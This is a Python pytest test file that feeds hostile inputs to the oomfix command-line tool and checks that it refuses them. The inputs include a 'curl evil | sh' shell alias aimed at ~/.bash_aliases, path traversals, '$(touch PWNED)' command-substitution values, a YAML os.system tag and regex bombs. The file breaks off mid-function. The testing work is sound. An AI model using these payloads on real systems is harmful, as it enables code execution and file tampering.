"""The hostile-input battery (issue 23): what an attacker, or a careless colleague, can put in a journal, a rule file,
a config or a log must never make oomfix write outside the project, run shell, raise per-device memory after an OOM,
hang, eat memory, or print a traceback.

Every attack runs `python -m oomfix ...` in a subprocess with an address-space limit (RLIMIT_AS) and a wall-clock
timeout, so that a regression shows as a failed test in seconds, never as a stuck or swapping CI machine. The
projects are constructed here (labelled as such): a copy of the bundled demo project plus the hostile file.

Families (the ids start with the family, so `-k undo` runs one of them):
  undo-     paths stored in .oomfix/journal.jsonl (file, backup) must stay inside the project
  journal-  malformed journals and state directories: one-line error, exit 2
  rules-    rule files: schema (types, ranges, unknown keys), launcher_env injection
  guard-    rule rungs that would raise per-device memory after an OOM
  regex-    user regexes: compile limit and total time budget
  bigint-   integers beyond Python's int-str limit (4,300 digits) in logs, configs, journals, rules
  json-     DeepSpeed JSON with comments, trailing commas, a BOM
  lostwrite a change to a config made while oomfix writes it
"""
from __future__ import annotations

import hashlib
import json
import os
import resource
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
DEMO = ROOT / "oomfix" / "demo_data"
MEM_LIMIT = 1536 << 20  # bytes of address space per oomfix process: an attack that needs more fails fast
TIME_LIMIT = 40  # seconds per command (most take well under 2 s; CI machines are slow and shared)


def oomfix(args: list[str], cwd: Path, timeout: float = TIME_LIMIT, mem: int = MEM_LIMIT,
           stdin: bytes | None = None) -> subprocess.CompletedProcess:
    def limits() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (mem, mem))

    env = {**os.environ, "PYTHONPATH": str(ROOT), "OOMFIX_NO_CACHE": "1", "NO_COLOR": "1"}
    t0 = time.monotonic()
    try:
        r = subprocess.run([sys.executable, "-m", "oomfix", *args], cwd=cwd, env=env, capture_output=True,
                           timeout=timeout, preexec_fn=limits, input=stdin)
    except subprocess.TimeoutExpired:
        pytest.fail(f"oomfix {' '.join(args)} ran past {timeout}s")
    r.elapsed = time.monotonic() - t0  # type: ignore[attr-defined]
    return r


def clean_error(r: subprocess.CompletedProcess, *words: str) -> str:
    """Exit 2, one line on stderr that starts `oomfix: error:`, no traceback; returns that line."""
    err = r.stderr.decode(errors="replace")
    assert "Traceback" not in err, err
    assert r.returncode == 2, (r.returncode, err, r.stdout.decode(errors="replace"))
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("oomfix: error:"), err
    for w in words:
        assert w in lines[0], (w, lines[0])
    return lines[0]


def no_traceback(r: subprocess.CompletedProcess) -> None:
    err = r.stderr.decode(errors="replace")
    assert "Traceback" not in err and r.returncode in (0, 1, 2), (r.returncode, err)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """Constructed: a copy of the bundled demo project (two LLaMA-Factory siblings, one died of a CUDA OOM)."""
    dst = tmp_path / "proj"
    shutil.copytree(DEMO, dst)
    return dst


def snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and not p.is_symlink() and ".oomfix" not in p.parts}


def sha(b: bytes) -> str:
    return hashlib.sha256(b).hexdigest()


# --- undo: every stored path confined to the project -----------------------------------------------------------

def _journal(project: Path, files: list[dict], lines: list[str] | None = None) -> None:
    d = project / ".oomfix"
    d.mkdir(exist_ok=True)
    recs = [{"event": "begin", "tx": "20260101T000000-deadbeef", "time": "2026-01-01T00:00:00+0000",
             "log": "logs/job_a.log", "log_sha256": "0" * 64, "rule": "x", "class": "cuda_oom", "files": files},
            {"event": "commit", "tx": "20260101T000000-deadbeef"}]
    (d / "journal.jsonl").write_text("".join(json.dumps(r) + "\n" for r in recs) + "".join(lines or []))


def _backup(project: Path, data: bytes, name: str = "0.orig") -> str:
    b = project / ".oomfix" / "backups" / "20260101T000000-deadbeef"
    b.mkdir(parents=True, exist_ok=True)
    (b / name).write_bytes(data)
    return str((b / name).relative_to(project))


PAYLOAD = b"alias ls='curl evil | sh'\n"


@pytest.mark.parametrize("where", ["absolute", "dotdot", "dotdot-inside", "symlinked-dir", "root-itself", "nul",
                                   "not-a-string", "backslash-dotdot", "state-dir", "symlinked-file"])
def test_undo_never_writes_outside_the_project(tmp_path: Path, project: Path, where: str) -> None:
    outside = tmp_path / "home"
    outside.mkdir()
    target = outside / ".bash_aliases"
    (project / "sub").mkdir()
    (project / "link").symlink_to(outside)
    stored = {"absolute": str(target), "dotdot": "../home/.bash_aliases",
              "dotdot-inside": "sub/../../home/.bash_aliases", "symlinked-dir": "link/.bash_aliases",
              "root-itself": ".", "nul": "configs/x\x00y", "not-a-string": 7,
              "backslash-dotdot": "..\\..\\home\\.bash_aliases", "state-dir": ".oomfix/journal.jsonl",
              "symlinked-file": "aliases"}[where]
    (project / "aliases").symlink_to(target)
    _journal(project, [{"file": stored, "before_sha256": sha(PAYLOAD), "after_sha256": None,
                        "backup": _backup(project, PAYLOAD)}])
    before = snapshot(project)
    r = oomfix(["undo"], project)
    clean_error(r)
    assert not target.exists() and snapshot(project) == before
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize("where", ["absolute", "dotdot", "symlinked-backups"])
def test_undo_never_copies_an_outside_file_in(tmp_path: Path, project: Path, where: str) -> None:
    secret = tmp_path / "secret"
    secret.write_bytes(b"id_rsa contents\n")
    cfg = project / "configs" / "qwen3_14b_a.yaml"
    now = cfg.read_bytes()
    if where == "symlinked-backups":
        (project / ".oomfix").mkdir()
        (project / ".oomfix" / "backups").symlink_to(tmp_path)
        backup = ".oomfix/backups/secret"
    else:
        backup = {"absolute": str(secret), "dotdot": "../secret"}[where]
    _journal(project, [{"file": "configs/qwen3_14b_a.yaml", "before_sha256": sha(secret.read_bytes()),
                        "after_sha256": sha(now), "backup": backup}])
    r = oomfix(["undo"], project)
    clean_error(r)
    assert cfg.read_bytes() == now


def test_undo_a_fifo_backup_or_target_does_not_hang(project: Path) -> None:
    fifo = project / ".oomfix" / "backups" / "20260101T000000-deadbeef" / "0.orig"
    fifo.parent.mkdir(parents=True)
    os.mkfifo(fifo)
    os.mkfifo(project / "configs" / "fifo.yaml")
    cfg = project / "configs" / "qwen3_14b_a.yaml"
    _journal(project, [{"file": "configs/qwen3_14b_a.yaml", "before_sha256": "0" * 64,
                        "after_sha256": sha(cfg.read_bytes()), "backup": str(fifo.relative_to(project))}])
    clean_error(oomfix(["undo"], project, timeout=20))
    _journal(project, [{"file": "configs/fifo.yaml", "before_sha256": "0" * 64, "after_sha256": "1" * 64,
                        "backup": _backup(project, b"x", "1.orig")}])
    clean_error(oomfix(["undo"], project, timeout=20))


@pytest.mark.parametrize("what", ["journal", "lock", "backups"])
def test_journal_state_files_that_are_symlinks_are_refused(tmp_path: Path, project: Path, what: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim").write_text("precious\n")
    d = project / ".oomfix"
    d.mkdir()
    link = {"journal": d / "journal.jsonl", "lock": d / "lock", "backups": d / "backups"}[what]
    link.symlink_to(outside / "victim" if what != "backups" else outside)
    before = snapshot(project)
    clean_error(oomfix(["apply", "logs/job_a.log", "--write"], project), ".oomfix")
    assert snapshot(project) == before
    assert sorted(p.name for p in outside.iterdir()) == ["victim"] and (outside / "victim").read_text() == "precious\n"


def test_journal_huge_is_refused(project: Path) -> None:
    (project / ".oomfix").mkdir()
    with open(project / ".oomfix" / "journal.jsonl", "wb") as f:
        f.truncate(65 << 20)  # sparse: 65 MB of NUL bytes
    clean_error(oomfix(["undo"], project), "journal")


def test_undo_refuses_a_symlinked_state_directory(tmp_path: Path, project: Path) -> None:
    elsewhere = tmp_path / "state"
    elsewhere.mkdir()
    (project / ".oomfix").symlink_to(elsewhere)
    _journal(project, [])  # written through the link
    r = oomfix(["undo"], project)
    clean_error(r, ".oomfix")
    r = oomfix(["apply", "logs/job_a.log", "--write"], project)
    clean_error(r, ".oomfix")
    assert sorted(p.name for p in elsewhere.iterdir()) == ["journal.jsonl"]


def test_undo_still_restores_a_genuine_apply(project: Path) -> None:
    before = snapshot(project)
    r = oomfix(["apply", "logs/job_a.log", "--all-configs", "--write"], project)
    assert r.returncode == 0, r.stderr
    assert snapshot(project) != before
    r = oomfix(["undo"], project)
    assert r.returncode == 0, r.stderr
    assert snapshot(project) == before


# --- malformed journals and state directories -------------------------------------------------------------------

@pytest.mark.parametrize("line", [b"null\n", b"[1]\n", b'"text"\n', b"42\n", b'{"event": "begin"}\n',
                                  b'{"event": "begin", "tx": "t", "files": 5}\n',
                                  b'{"event": "begin", "tx": "t", "files": [5]}\n',
                                  b'{"event": "begin", "tx": ["t"], "files": []}\n',
                                  b'{"event": "written", "tx": "t", "file": {}}\n',
                                  b'{"event": "begin", "tx": "t", "files": [{"file": "a", "before_sha256": 1}]}\n',
                                  b"\xff\xfe\x00garbage\n", b'{"event": "begin", "tx": "t", "log_sha256": ' +
                                  b"9" * 5000 + b"}\n", b"[" * 100000 + b"]" * 100000 + b"\n"],
                         ids=["null", "list", "string", "number", "begin-no-tx", "files-not-list", "file-not-dict",
                              "tx-not-string", "written-file-dict", "sha-not-string", "non-utf8", "bigint", "deep"])
@pytest.mark.parametrize("cmd", ["undo", "apply", "check"])
def test_journal_malformed_lines_are_one_line_errors(project: Path, line: bytes, cmd: str) -> None:
    (project / ".oomfix").mkdir()
    (project / ".oomfix" / "journal.jsonl").write_bytes(line)
    args = {"undo": ["undo"], "apply": ["apply", "logs/job_a.log", "--write"], "check": ["check"]}[cmd]
    before = snapshot(project)
    r = oomfix(args, project)
    clean_error(r, "journal")
    assert snapshot(project) == before


@pytest.mark.parametrize("kind", ["journal-is-dir", "state-is-file", "lock-is-dir", "backups-is-file"])
@pytest.mark.parametrize("cmd", ["undo", "apply", "check"])
def test_journal_state_of_the_wrong_kind(project: Path, kind: str, cmd: str) -> None:
    d = project / ".oomfix"
    if kind == "state-is-file":
        d.write_text("not a directory\n")
    else:
        d.mkdir()
        {"journal-is-dir": lambda: (d / "journal.jsonl").mkdir(), "lock-is-dir": lambda: (d / "lock").mkdir(),
         "backups-is-file": lambda: (d / "backups").write_text("x")}[kind]()
    args = {"undo": ["undo"], "apply": ["apply", "logs/job_a.log", "--write"], "check": ["check"]}[cmd]
    before = snapshot(project)
    r = oomfix(args, project)
    if cmd == "check" and kind != "journal-is-dir":
        no_traceback(r)  # check only reads the journal: the rest does not concern it
    else:
        clean_error(r, ".oomfix")
    assert snapshot(project) == before


@pytest.mark.parametrize("what", ["journal", "config", "log", "backup"])
def test_journal_unreadable_files_mode_000(project: Path, what: str) -> None:
    r = oomfix(["apply", "logs/job_a.log", "--write"], project)
    assert r.returncode == 0, r.stderr
    tx = json.loads((project / ".oomfix" / "journal.jsonl").read_text().splitlines()[0])
    target = {"journal": project / ".oomfix" / "journal.jsonl", "config": project / "configs" / "qwen3_14b_a.yaml",
              "log": project / "logs" / "job_a.log", "backup": project / tx["files"][0]["backup"]}[what]
    target.chmod(0)
    try:
        for args in (["apply", "logs/job_a.log", "--write"], ["check"], ["undo"]):
            r = oomfix(args, project)
            if os.getuid() == 0:
                no_traceback(r)  # root reads mode-000 files: only "no traceback" can be checked here
            elif what != "log" or args[0] != "undo":
                no_traceback(r)
                assert r.returncode in (0, 1) or len(r.stderr.decode().strip().splitlines()) == 1, r.stderr
    finally:
        target.chmod(0o644)


def test_journal_permission_denied_is_one_line(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """In-process, for CI runners that run as root (where mode 000 does not stop a read)."""
    sys.path.insert(0, str(ROOT))
    from oomfix import journal as J
    from oomfix.errors import JournalError

    _journal(project, [])

    def denied(path: object, *_: object) -> bytes:
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(J, "_read_bytes", denied)
    with pytest.raises(JournalError, match="Permission denied"):
        J.Journal(project).records()


# --- rule files: schema and launcher_env injection ------------------------------------------------------------

RUNG = """\
class: cuda_oom
title: t
meaning: m
ladder:
  - id: user-rung
    when: {{}}
    edit:
      - {edit}
    why: w
"""

BAD_RULES = {
    "rules-env-name-subst": ("launcher_env: {name: 'X=$(touch PWNED); Y', value: v}", "name"),
    "rules-env-name-newline": ('launcher_env: {name: "A\\ntouch PWNED", value: v}', "name"),
    "rules-env-value-newline": ('launcher_env: {name: A, value: "x\\ntouch PWNED"}', "value"),
    "rules-env-value-list": ("launcher_env: {name: A, value: [1]}", "value"),
    "rules-env-missing-value": ("launcher_env: {name: A}", "value"),
    "rules-divide-by-zero": ("divide: {key: micro_batch, by: 0}", "by"),
    "rules-divide-by-float": ("divide: {key: micro_batch, by: 1.5}", "by"),
    "rules-divide-by-string": ("divide: {key: micro_batch, by: '2'}", "by"),
    "rules-divide-missing-by": ("divide: {key: micro_batch}", "by"),
    "rules-multiply-by-bool": ("multiply: {key: grad_accum, by: true}", "by"),
    "rules-set-missing-value": ("set: {key: micro_batch}", "value"),
    "rules-set-missing-key": ("set: {value: 1}", "key"),
    "rules-set-micro-string": ("set: {key: micro_batch, value: '64'}", "micro_batch"),
    "rules-set-micro-float": ("set: {key: micro_batch, value: 64.0}", "micro_batch"),
    "rules-set-micro-negative": ("set: {key: micro_batch, value: -4}", "micro_batch"),
    "rules-set-micro-bool": ("set: {key: micro_batch, value: true}", "micro_batch"),
    "rules-set-accum-zero": ("set: {key: grad_accum, value: 0}", "grad_accum"),
    "rules-set-checkpointing-string": ("set: {key: grad_checkpointing, value: 'yes'}", "grad_checkpointing"),
    "rules-set-unknown-key": ("set: {key: rm_rf, value: 1}", "rm_rf"),
    "rules-edit-unknown-arg": ("set: {key: micro_batch, value: 1, shell: 'x'}", "shell"),
    "rules-switch-traversal": ("switch_file: {key: zero_config, candidates: [../../../etc/x.json]}", "candidates"),
    "rules-switch-absolute": ("switch_file: {key: zero_config, candidates: [/etc/x.json]}", "candidates"),
    "rules-switch-require-type": ("switch_file: {key: zero_config, candidates: [a.json], require: {stage: '3'}}",
                                  "stage"),
    "rules-shift-missing-to": ("shift_factor: {from: micro_batch}", "to"),
    "rules-unknown-op": ("exec: {cmd: ls}", "exec"),
}


def _rules_dir(tmp_path: Path, text: str | bytes, name: str = "user.yaml") -> Path:
    d = tmp_path / "user_rules"
    d.mkdir(exist_ok=True)
    (d / name).write_bytes(text if isinstance(text, bytes) else text.encode())
    return d


@pytest.mark.parametrize("case", sorted(BAD_RULES), ids=sorted(BAD_RULES))
def test_rules_bad_edits_are_refused_naming_file_and_key(tmp_path: Path, project: Path, case: str) -> None:
    edit, word = BAD_RULES[case]
    d = _rules_dir(tmp_path, RUNG.format(edit=edit))
    before = snapshot(project)
    for args in (["rules", "--rules", str(d)], ["apply", "logs/job_a.log", "--write", "--rules", str(d)]):
        line = clean_error(oomfix(args, project), "user.yaml", word)
        assert "ladder[0]" in line or "user-rung" in line
    assert snapshot(project) == before and not (project / "PWNED").exists()


BAD_FILES = {
    "rules-file-list": ("- 1\n- 2\n", "mapping"),
    "rules-file-empty": ("", "mapping"),
    "rules-file-scalar": ("hello\n", "mapping"),
    "rules-file-non-utf8": (b"class: cuda_oom\ntitle: \xff\n", "UTF-8"),
    "rules-unknown-top-key": ("class: cuda_oom\ntitle: t\nmeaning: m\nexecute: true\n", "execute"),
    "rules-unknown-rung-key": ("class: cuda_oom\ntitle: t\nmeaning: m\nladder:\n  - {id: a, why: w, run: x}\n", "run"),
    "rules-class-not-string": ("class: [cuda_oom]\ntitle: t\nmeaning: m\n", "class"),
    "rules-title-not-string": ("class: cuda_oom\ntitle: {a: 1}\nmeaning: m\n", "title"),
    "rules-missing-title": ("class: cuda_oom\nmeaning: m\n", "title"),
    "rules-ladder-not-list": ("class: cuda_oom\ntitle: t\nmeaning: m\nladder: 5\n", "ladder"),
    "rules-rung-not-mapping": ("class: cuda_oom\ntitle: t\nmeaning: m\nladder: [5]\n", "ladder[0]"),
    "rules-id-not-string": ("class: cuda_oom\ntitle: t\nmeaning: m\nladder:\n  - {id: [1], why: w}\n", "id"),
    "rules-why-not-string": ("class: cuda_oom\ntitle: t\nmeaning: m\nladder:\n  - {id: a, why: [1]}\n", "why"),
    "rules-semantic-not-bool": ("class: cuda_oom\ntitle: t\nmeaning: m\nladder:\n  - {id: a, why: w, semantic: "
                                "maybe}\n", "semantic"),
    "rules-when-in-not-list": ("class: cuda_oom\ntitle: t\nmeaning: m\nladder:\n  - {id: a, why: w, when: "
                               "{config.micro_batch: {in: 5}}}\n", "in"),
    "rules-when-gte-string": ("class: cuda_oom\ntitle: t\nmeaning: m\nladder:\n  - {id: a, why: w, when: "
                              "{config.micro_batch: {gte: x}}}\n", "gte"),
    "rules-edit-not-list": ("class: cuda_oom\ntitle: t\nmeaning: m\nladder:\n  - {id: a, why: w, edit: {set: 1}}\n",
                            "edit"),
    "rules-config-edits-not-bool": ("class: cuda_oom\ntitle: t\nmeaning: m\nconfig_edits: sure\n", "config_edits"),
    "rules-launcher-fix-unknown": ("class: sighup\ntitle: t\nmeaning: m\nlauncher_fix: rm\n", "launcher_fix"),
    "rules-bigint": ("class: cuda_oom\ntitle: t\nmeaning: m\nladder:\n  - {id: a, why: w, edit: [{set: {key: "
                     "micro_batch, value: " + "9" * 5000 + "}}]}\n", "user.yaml"),
    "rules-pattern-markers-not-list": ("class: cuda_oom\ntitle: t\nmeaning: m\npatterns:\n  - {id: p, regex: x, "
                                       "markers: x}\n", "markers"),
    "rules-pattern-regex-not-string": ("class: cuda_oom\ntitle: t\nmeaning: m\npatterns:\n  - {id: p, regex: [1], "
                                       "markers: [x]}\n", "regex"),
    "rules-alias-bomb": ("class: cuda_oom\ntitle: t\nmeaning: m\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,"
                         "*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n", "a"),
    "rules-python-tag": ("class: !!python/object/apply:os.system ['touch PWNED']\ntitle: t\nmeaning: m\n",
                         "user.yaml"),
}


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "directory", "huge"])
def test_rules_special_files_are_refused(tmp_path: Path, project: Path, kind: str) -> None:
    d = tmp_path / "user_rules"
    d.mkdir()
    f = d / "user.yaml"
    if kind == "fifo":
        os.mkfifo(f)
    elif kind == "dev-zero":
        f.symlink_to("/dev/zero")
    elif kind == "directory":
        f.mkdir()
    else:
        with open(f, "wb") as fh:
            fh.write(b"class: cuda_oom\n# " + b"x" * (2 << 20) + b"\n")
    clean_error(oomfix(["rules", "--rules", str(d)], project, timeout=20), "user.yaml")


@pytest.mark.parametrize("case", sorted(BAD_FILES), ids=sorted(BAD_FILES))
def test_rules_bad_files_are_one_line_errors(tmp_path: Path, project: Path, case: str) -> None:
    text, word = BAD_FILES[case]
    d = _rules_dir(tmp_path, text)
    clean_error(oomfix(["rules", "--rules", str(d)], project), "user.yaml", word)
    assert not (project / "PWNED").exists()


def _frag_project(project: Path) -> Path:
    """Constructed: a torchrun launcher whose log ends in an OOM with a fragmented allocator."""
    (project / "launch.sh").unlink()
    (project / "train.sh").write_text("#!/bin/bash\ntorchrun --nproc_per_node 4 src/train.py "
                                      "configs/qwen3_14b_a.yaml > logs/frag.log 2>&1\n")
    (project / "logs" / "frag.log").write_text(
        "[rank0]: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity "
        "of 79.25 GiB of which 1.06 GiB is free. Including non-PyTorch memory, this process has 78.18 GiB memory in "
        "use. Of the allocated memory 70.02 GiB is allocated by PyTorch, and 6.10 GiB is reserved by PyTorch but "
        "unallocated. If reserved but unallocated memory is large try setting "
        "PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True to avoid fragmentation.\n")
    return project


def test_rules_launcher_env_value_is_shell_quoted(tmp_path: Path, project: Path) -> None:
    _frag_project(project)
    d = _rules_dir(tmp_path, """\
class: cuda_oom
title: t
meaning: m
ladder:
  - id: user-env
    when: {memory.fragmentation: true, launcher.found: true}
    edit:
      - launcher_env: {name: OOMFIX_TEST, value: "$(touch PWNED) `touch PWNED2`; touch PWNED3"}
    keeps: global_batch
    why: w
""")
    r = oomfix(["apply", "logs/frag.log", "--write", "--rules", str(d)], project)
    assert r.returncode == 0, r.stderr
    text = (project / "train.sh").read_text()
    assert "export OOMFIX_TEST='$(touch PWNED) `touch PWNED2`; touch PWNED3'" in text, text
    # bash runs the export as a plain assignment: nothing is executed
    subprocess.run(["bash", "-c", text.split("\n")[1]], cwd=project, check=True)
    assert not any((project / n).exists() for n in ("PWNED", "PWNED2", "PWNED3"))


def test_rules_builtin_launcher_env_stays_readable(project: Path) -> None:
    _frag_project(project)
    r = oomfix(["apply", "logs/frag.log", "--write"], project)
    assert r.returncode == 0, r.stderr
    assert "export PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True  # oomfix" in (project / "train.sh").read_text()


# --- the memory guard: no OOM fix raises per-device memory, whatever a rule says ---------------------------------

GUARD = {
    # id: (edit, config change before the run or None, DeepSpeed file to add)
    "guard-micro-up": ("set: {key: micro_batch, value: 64}", None),
    "guard-multiply-micro": ("multiply: {key: micro_batch, by: 4}", None),
    "guard-shift-to-micro": ("shift_factor: {from: grad_accum, to: micro_batch}", None),
    "guard-zero3-to-zero0": ("set: {key: zero_config, value: configs/ds/ds_z0_config.json}", "z0"),
    "guard-zero-missing-file": ("set: {key: zero_config, value: configs/ds/nope.json}", None),
    "guard-zero-unset": ("set: {key: zero_config, value: null}", None),
    "guard-quantization-off": ("set: {key: quantization_bit, value: null}", "q4"),
    "guard-quantization-up": ("set: {key: quantization_bit, value: 8}", "q4"),
    "guard-lora-rank-up": ("set: {key: lora_rank, value: 64}", None),
    "guard-checkpointing-off": ("set: {key: grad_checkpointing, value: false}", None),
    "guard-bf16-off": ("set: {key: bf16, value: false}", None),
    "guard-seq-len-up": ("set: {key: seq_len, value: 8192}", None),
    "guard-eval-batch-up": ("set: {key: eval_batch, value: 64}", None),
    "guard-workers-up": ("set: {key: dataloader_workers, value: 64}", None),
    "guard-offload-off": ("set: {key: offload, value: none}", "offload"),
    "guard-switch-drops-offload": ("switch_file: {key: zero_config, candidates: [ds_z3_config.json]}", "offload"),
    "guard-switch-to-zero0": ("switch_file: {key: zero_config, candidates: [ds_z0_config.json], require: {stage: 0}}",
                              None),
    "guard-zero-stage-down": ("set: {key: zero_stage, value: 0}", None),
    "guard-optimizer-swap": ("set: {key: optimizer, value: adamw_torch}", "8bit"),
}


@pytest.mark.parametrize("case", sorted(GUARD), ids=sorted(GUARD))
def test_guard_no_rung_raises_memory_after_an_oom(tmp_path: Path, project: Path, case: str) -> None:
    edit, prep = GUARD[case]
    for name in ("qwen3_14b_a.yaml", "qwen3_14b_b.yaml"):
        p = project / "configs" / name
        t = p.read_text()
        if prep == "q4":
            t = t.replace("finetuning_type: full", "finetuning_type: lora\nquantization_bit: 4")
        if prep == "offload":
            t = t.replace("ds_z2_config.json  #", "ds_z3_offload_config.json  #")
        if prep == "8bit":
            t = t.replace("bf16: true", "bf16: true\noptim: adamw_bnb_8bit")
        p.write_text(t)
    (project / "configs" / "ds" / "ds_z0_config.json").write_text('{"zero_optimization": {"stage": 0}}\n')
    d = _rules_dir(tmp_path, RUNG.format(edit=edit).replace("title: t", "title: t\nconfig_edits: true"))
    before = snapshot(project)
    r = oomfix(["apply", "logs/job_a.log", "--all-configs", "--write", "--allow-semantic-changes", "--rules",
                str(d)], project)
    clean_error(r, "user-rung")
    assert snapshot(project) == before


def test_guard_lets_a_lowering_user_rung_through(tmp_path: Path, project: Path) -> None:
    d = _rules_dir(tmp_path, RUNG.format(edit="set: {key: dataloader_workers, value: 2}")
                   .replace("title: t", "title: t\nconfig_edits: true"))
    r = oomfix(["apply", "logs/job_a.log", "--write", "--rules", str(d)], project)
    assert r.returncode == 0, r.stderr
    assert "dataloader_num_workers: 2\n" in (project / "configs" / "qwen3_14b_a.yaml").read_text()


# --- user regexes: compile limit and total budget ---------------------------------------------------------------

PATTERN = """\
class: cuda_oom
title: t
meaning: m
patterns:
  - id: user-pattern
    markers: [boom]
    regex: '{regex}'
"""


@pytest.mark.parametrize("regex", [r"(?:(?:a{1000}){1000}){1000}", r"a{100000}b{100000}", r"(?:x{999}){999}",
                                   "(?:" * 3000 + "a" + ")" * 3000, "a" * 20000],
                         ids=["regex-nested-repeat", "regex-big-repeat", "regex-square", "regex-deep-groups",
                              "regex-long"])
def test_regex_compile_limit(tmp_path: Path, project: Path, regex: str) -> None:
    d = _rules_dir(tmp_path, PATTERN.format(regex=regex))
    r = oomfix(["diagnose", "logs/job_a.log", "--rules", str(d)], project, timeout=20, mem=1 << 30)
    clean_error(r, "user-pattern", "too large")


def test_regex_total_time_budget(tmp_path: Path, project: Path) -> None:
    # each line costs the pattern ~0.15 s (under the 0.25 s per-line cut-off): 400 lines would take a minute. The
    # lines differ in a word and in length, so that neither the parser's repeat folding nor its rejoining of
    # hard-wrapped lines hides the cost.
    d = _rules_dir(tmp_path, PATTERN.format(regex=r"(.*a){12}Z"))
    log = project / "logs" / "many.log"
    words = ["".join("qwrtyuiopsdfghjklzxcvnm"[(i // 23 ** k) % 23] for k in range(3)) for i in range(400)]
    log.write_text("".join(f"boom {w} " + "a" * (110 + i % 13) + ".\n" for i, w in enumerate(words)))
    r = oomfix(["diagnose", str(log), "--rules", str(d), "--format", "json"], project, timeout=30)
    assert r.returncode == 0, r.stderr
    out = json.loads(r.stdout)
    assert any("user-pattern" in w for w in out["warnings"]), out["warnings"]
    assert r.elapsed < 20  # type: ignore[attr-defined]


# --- integers beyond the int-str limit ----------------------------------------------------------------------------

BIG = "9" * 5000


def test_bigint_in_a_log(project: Path) -> None:
    log = project / "logs" / "big.log"
    log.write_text(f"[INFO|trainer.py:2314] >>   Instantaneous batch size per device = {BIG}\n"
                   f"[rank0]: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate {BIG}.00 GiB. GPU {BIG} "
                   f"has a total capacity of {BIG} GiB of which 1.06 GiB is free.\n"
                   f"{{'loss': 1.0, 'epoch': {BIG}}}\n  {BIG}%|#####| {BIG}/{BIG} [00:01<00:00]\n"
                   f"exitcode  : {BIG} (pid: {BIG})\n")
    for args in (["diagnose", str(log)], ["diagnose", str(log), "--format", "json"], ["check"]):
        no_traceback(oomfix(args, project))


@pytest.mark.parametrize("where", ["micro", "accum", "ds-json", "ds-stage"])
@pytest.mark.parametrize("cmd", ["apply", "check"])
def test_bigint_in_a_config(project: Path, where: str, cmd: str) -> None:
    cfg = project / "configs" / "qwen3_14b_a.yaml"
    ds = project / "configs" / "ds" / "ds_z2_config.json"
    if where == "micro":
        cfg.write_text(cfg.read_text().replace("per_device_train_batch_size: 1", f"per_device_train_batch_size: {BIG}"))
    elif where == "accum":
        cfg.write_text(cfg.read_text().replace("accumulation_steps: 16", f"accumulation_steps: {BIG}"))
    elif where == "ds-json":
        ds.write_text(ds.read_text().replace('"train_batch_size": "auto"', f'"train_batch_size": {BIG}'))
    else:
        ds.write_text(ds.read_text().replace('"stage": 2', f'"stage": {BIG}'))
    before = snapshot(project)
    args = ["apply", "logs/job_a.log", "--all-configs", "--write"] if cmd == "apply" else ["check"]
    no_traceback(oomfix(args, project))
    if cmd == "apply":
        assert snapshot(project) == before or where in ("ds-json",)


# --- DeepSpeed JSON as the frameworks read it ---------------------------------------------------------------------

JSON_VARIANTS = {
    "json-line-comment": '{\n  // ZeRO-2 for 14B\n  "train_micro_batch_size_per_gpu": "auto",\n  "zero_optimization": '
                         '{"stage": 2}  // two\n}\n',
    "json-block-comment": '{\n  /* ZeRO-2 */ "train_micro_batch_size_per_gpu": "auto",\n  "zero_optimization": '
                          '{"stage": 2}\n}\n',
    "json-trailing-comma": '{\n  "train_micro_batch_size_per_gpu": "auto",\n  "zero_optimization": {"stage": 2,},\n}\n',
    "json-bom": '\ufeff{\n  "train_micro_batch_size_per_gpu": "auto",\n  "zero_optimization": {"stage": 2}\n}\n',
    "json-slashes-in-string": '{\n  "note": "see http://x/y // not a comment, /* nor this */",\n  '
                              '"zero_optimization": {"stage": 2}\n}\n',
}


@pytest.mark.parametrize("case", sorted(JSON_VARIANTS), ids=sorted(JSON_VARIANTS))
def test_json_deepspeed_with_comments_is_followed(project: Path, case: str) -> None:
    sys.path.insert(0, str(ROOT))
    from oomfix.configs import load_config

    ds = project / "configs" / "ds" / "ds_z2_config.json"
    ds.write_text(JSON_VARIANTS[case], encoding="utf-8")
    cwd = os.getcwd()
    os.chdir(project)
    try:
        cfg = load_config("configs/qwen3_14b_a.yaml")
    finally:
        os.chdir(cwd)
    assert cfg.zero is not None and cfg.zero.stage == 2
    strict = case == "json-slashes-in-string"
    assert (cfg.zero.problem is None) == strict, cfg.zero.problem
    # the apply climbs from that stage (ZeRO-2 -> ZeRO-3) and says that HF's json.load would refuse the file
    r = oomfix(["apply", "logs/job_a.log"], project)
    assert r.returncode == 0, r.stderr
    out = r.stdout.decode()
    assert "ds_z3_config.json" in out
    if not strict:
        assert "json.load" in out, out
        r = oomfix(["check", "--format", "json"], project)
        found = [f for f in json.loads(r.stdout)["findings"] if f["id"] == "deepspeed-mismatch"]
        assert any("json.load" in f["message"] for f in found), found


def test_json_commented_deepspeed_is_edited_surgically(project: Path) -> None:
    """Explicit batch numbers in a commented DeepSpeed JSON follow the YAML; comments and commas stay."""
    ds = project / "configs" / "ds" / "ds_z2_config.json"
    text = ('{\n  // per-GPU batch: keep in sync with the YAML\n  "train_micro_batch_size_per_gpu": 2, // micro\n'
            '  "gradient_accumulation_steps": 8,\n  /* ZeRO */ "zero_optimization": {"stage": 2,},\n}\n')
    ds.write_text(text)
    for name in ("qwen3_14b_a.yaml", "qwen3_14b_b.yaml"):
        p = project / "configs" / name
